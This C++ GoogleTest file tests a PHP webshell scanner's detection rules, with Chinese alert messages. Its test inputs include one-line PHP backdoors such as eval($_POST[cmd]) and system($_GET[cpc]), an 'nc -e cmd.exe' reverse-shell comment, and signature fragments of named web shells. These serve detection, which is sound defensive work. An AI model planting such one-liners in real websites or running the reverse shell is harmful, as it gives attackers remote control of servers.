// The PHP cascade: the family steps, the web MySQL administrator, the five
// construct patterns with their named rows, and the FTP pair.
#include <gtest/gtest.h>

#include <string>

#include "rule_test_support.h"
#include "rules/rule_sets.h"

namespace qx::test {
namespace {

constexpr const char* kEncodedEval =
    "包含base64_decode|gzinflate|gzuncompress|str_rot13似乎脚本被加密了，一般PHP文件是不会加密的！";
constexpr const char* kEval =
    "Eval()函数可以执行任意PHP代码，被一些后门利用。但javascript代码中也可能使用，有可能是误报。";
constexpr const char* kPregReplaceE =
    "包含危险函数preg_replace+/，preg_replace+/"
    "e可以执行任意PHP代码，可能是程序漏洞或者恶意后门程序。";
constexpr const char* kDynamicCall =
    "包含的assert、call_user_func、call_user_func_array、create_function等函数可以执行任意PHP代码，"
    "有可能是程序漏洞或者后门程序，但普通程序中也可能会遇到，有可能是误报。";
constexpr const char* kSystemCommand =
    "包含的system、exec、shell_exec、popen、proc_open、passthru等函数可以执行任意系统命令，"
    "常被一些后门利用，但普通程序中也可能会遇到，有可能是误报。";
constexpr const char* kFtp =
    "包含的ftp_connect、ftp_login、ftp_get、ftp_put等函数可以使用FTP协议上传下载文件，存在风险。";

const std::string kEvalCall = "<?php eval($code); ?>\n";
const std::string kExecCall = "<?php exec($cmd, $out); ?>\n";

TEST(PhpRules, FamilySteps) {
    const RuleCase cases[] = {
        {"1 PHPSPY2006", "<?php function MysqlDown(){} function MysqlFun(){} $MixDll = 1; ?>", 2,
         "发现网页木马PHPSPY2006.PhpSpy！"},
        {"2 PHPSPY2008", "<?php $PhpSpyPass = 'x'; $tmp_angel = 1; ?>", 3,
         "发现网页木马PHPSPY2008.PhpSpy！"},
        {"3 PHPSPY2011", "<?php $p = encode_pass('angel'); $tmp_angel = 1; ?>", 3,
         "发现网页木马PHPSPY2011.PhpSpy！"},
        {"4 C99Shell", "<?php $c99sh_surl = ''; function c99_buff_prepare(){} ?>", 3,
         "发现网页木马C99Shell.PhpSpy！"},
        {"5 C99Shell again", "<?php $c99shvars_a = 1; c99_sess_put($x); ?>", 3,
         "发现网页木马C99Shell.PhpSpy！"},
        {"6 PhpDdos", "<form action=\"function.php\" method=post>UDP DoS</form>", 3,
         "发现网页木马PhpDdos.PhpSpy！"},
        {"7 Ct_Shell", "<?php $ctshvars_x = 1; ct_sess_put($y); ?>", 3,
         "发现网页木马Ct_Shell.PhpSpy！"},
        {"8 DxShell", "<?php DxGET_Vars(); $DX_Header_drawn = true; ?>", 3,
         "发现网页木马DxShell.PhpSpy！"},
        {"9 GfsShell", "<?php $port_c=\"1\"; $t = 'temp_gfs_table'; ?>", 3,
         "发现网页木马GfsShell.PhpSpy！"},
        {"10 phpRemoteView", "<title>phpRemoteView</title><?php $md5crack = 1; ?>", 3,
         "发现网页木马phpRemoteView.PhpSpy！"},
        {"11 C99madShell3",
         "<a href=\"?d=%2Fvar%2Fwww%2Fhtml%2Fwordpress%2F\">\n<b>Command execute ::</b>", 3,
         "发现网页木马C99madShell3.PhpSpy！"},
        {"12 Avrasya", "<?php $f = \"$dizin/$duzenx2\"; $u = \"$fistik.php?yeniklasor\"; ?>", 3,
         "发现网页木马Avrasya.PhpSpy！"},
        {"13 BizShell", "<?php $k1r4_surl = ''; k1r4_sess_put($v); ?>", 3,
         "发现网页木马BizShell.PhpSpy！"},
        {"14 web MySQL administrator",
         "<?php define('MYSQL_WEB_ADMIN_USERNAME', 'a'); define('MYSQL_WEB_ADMIN_PASSWORD', 'b'); "
         "?>",
         2, "发现风险脚本文件，可在线操作Mysql数据库！"},
    };
    ExpectRuleCases(CheckPhpFile, cases);
}

TEST(PhpRules, ConstructSteps) {
    const RuleCase cases[] = {
        {"15a row 42", "<?php eval(base64_decode($p));\nreturn \"0x4D5A\"; ?>", 3,
         "发现网页木马Spider.PhpShell！"},
        {"15b base64", "<?php eval(base64_decode($p)); ?>", 2, kEncodedEval},
        {"15b gzinflate after a blank", "<?php EVAL( gzinflate($d)); ?>", 2, kEncodedEval},
        {"15b str_rot13", "<?php eval (str_rot13($d)); ?>", 2, kEncodedEval},
        {"16a row 33", "<?@eval(\\$_REQUEST[a])?>", 3, "发现网页木马InsertMM.PhpSpy！"},
        {"16b row 34", "<?PHP eval($_POST[cmd])?>", 3, "发现网页木马LankerDoor.PhpSpy！"},
        {"16c row 37", "<?php eval($_POST[cmd]);?>", 3, "发现网页木马InsertMM.PhpSpy！"},
        {"16d row 38", "<?php @eval($_POST[cmd]);?>", 3, "发现网页木马InsertMM.PhpSpy！"},
        {"16e row 39", "<?eval($cmd);?>", 3, "发现网页木马InsertMM.PhpSpy！"},
        {"16f row 43", kEvalCall + "downloadit(\"$addr/winbind.pl\");", 3,
         "发现网页木马PhpJackal.PhpSpy！"},
        {"16g row 46", "<?php eval($_POST['Liz0ziM']); ?>", 3, "发现网页木马Liz0ziM.PhpSpy！"},
        {"16h row 49", kEvalCall + "$port_bind_bd_c=\"I2luY2x1ZGU=\";", 3,
         "发现网页木马NixWebShell.PhpSpy！"},
        {"16i row 50", kEvalCall + "$_SESSION['nst']=\"$pass\";", 3, "发现网页木马NstRU.PhpSpy！"},
        {"16j row 52", kEvalCall + "<h1>ZaCo MySQL Dumper</h1>", 3,
         "发现网页木马ZaCoSmall.PhpShell！"},
        {"16k row 53", kEvalCall + "$t = array(5 => 'MD5 Cracker');", 3,
         "发现网页木马IronShell.PhpSpy！"},
        {"16l eval", kEvalCall, 1, kEval},
        {"17 preg_replace /e", "<?php preg_replace(\"/.*/e\", $_GET['r'], ''); ?>", 1,
         kPregReplaceE},
        {"18 call_user_func", "<?php call_user_func($f, $a); ?>", 1, kDynamicCall},
        {"18 assert", "<?php assert($_GET['x']); ?>", 1, kDynamicCall},
        {"18 create_function", "<?php $f = create_function('', $b); ?>", 1, kDynamicCall},
        {"19a row 35", kExecCall + "return \"0x4d5a", 3, "发现网页木马LangousterUdf.PhpSpy！"},
        {"19b row 36", kExecCall + "$c = isset($shellcmd)?$shellcmd:'';", 3,
         "发现网页木马Reddragonfly.PhpShell！"},
        {"19c row 40", kExecCall + "$back_connect = 1;", 3, "发现网页木马BackConnect.PhpSpy！"},
        {"19d row 41", kExecCall + "function yetkiKontrol(){}", 3,
         "发现网页木马BackConnect.PhpSpy！"},
        {"19e row 44", kExecCall + "$c .= ' 1> /tmp/output.txt';", 3,
         "发现网页木马PhpShell.PhpSpy！"},
        {"19f row 45", kExecCall + "<title>>| Shell <</title>", 3,
         "发现网页木马Antichat.PhpShell！"},
        {"19g row 47", kExecCall + "iMHaBiRLiGi PHP FTP", 3, "发现网页木马iMHaPFTP.PhpSpy！"},
        {"19h row 48", kExecCall + "NetworkFileManagerPHP", 3,
         "发现网页木马NetworkFileManagerPHP.PhpSpy！"},
        {"19i row 51", kExecCall + "echo \"$scriptTitle $scriptVer\";", 3,
         "发现网页木马Macker.PhpShell！"},
        {"19j row 54", kExecCall + "if ($_SESSION['authenticated']) {}", 3,
         "发现网页木马mgeisler.PhpShell！"},
        {"19k row 55", kExecCall + "// nc -e cmd.exe [server] 80", 3,
         "发现网页木马RootShell2.PhpSpy！"},
        {"19l row 56", "<?php system(\\$_GET[cpc]);exit; ?>", 3, "发现网页木马ShellInj.PhpSpy！"},
        {"19m row 57", kExecCall + "$f = \"$savepath/$dbname-$date.sql\";", 3,
         "发现网页木马BackupSql.PhpSpy！"},
        {"19n row 58", "<?php passthru($c); function fonksiyonlary_kapat(){} ?>", 3,
         "发现网页木马Casus15.PhpShell！"},
        {"19o exec", kExecCall, 1, kSystemCommand},
        {"19o shell_exec", "<?php $o = shell_exec($c); ?>", 1, kSystemCommand},
        {"19o pcntl_exec", "<?php pcntl_exec('/bin/true'); ?>", 1, kSystemCommand},
        {"20 FTP", "<?php $c = ftp_connect($h); ftp_login($c, $u, $p); ?>", 1, kFtp},
        {"nothing", "<?php echo 'Welcome'; ?>", 0, nullptr},
    };
    ExpectRuleCases(CheckPhpFile, cases);
}

TEST(PhpRules, OrderAndNearMisses) {
    const RuleCase cases[] = {
        {"PHPSPY2006 before PHPSPY2008", "MysqlDown MysqlFun MixDll PhpSpyPass tmp_angel", 2,
         "发现网页木马PHPSPY2006.PhpSpy！"},
        {"tmp_ variable alone", "<?php $tmp_angel = 1; ?>", 0, nullptr},
        {"password keyword alone", "<?php $phpspypass = 1; ?>", 0, nullptr},
        {"dos alone", "<p>DOS and Windows</p>", 0, nullptr},
        {"row 34 before a system call", "<?php eval($_POST[cmd])?>\n<?php system($c); ?>", 3,
         "发现网页木马LankerDoor.PhpSpy！"},
        {"the shared row names Spider in step 15", "eval(gzuncompress($x)); return \"0x4d5a", 3,
         "发现网页木马Spider.PhpShell！"},
        {"row 33 needs its backslash", "<?@eval($_REQUEST[a])?>", 1, kEval},
        {"row 56 needs its backslash", "<?php system($_GET[cpc]);exit; ?>", 1, kSystemCommand},
        {"row 40 before row 44", kExecCall + "1> /tmp/output.txt $back_connect", 3,
         "发现网页木马BackConnect.PhpSpy！"},
        {"preg_replace /i", "<?php preg_replace('/a/i', 'b', $s); ?>", 0, nullptr},
        {"myexec", "<?php myexec($x); ?>", 0, nullptr},
        {"ftp_connect alone", "<?php ftp_connect($h); ?>", 0, nullptr},
        {"eval before preg_replace /e", "eval($a); preg_replace('/x/e', $b, $c);", 1, kEval},
    };
    ExpectRuleCases(CheckPhpFile, cases);
}

}  // namespace
}  // namespace qx::test
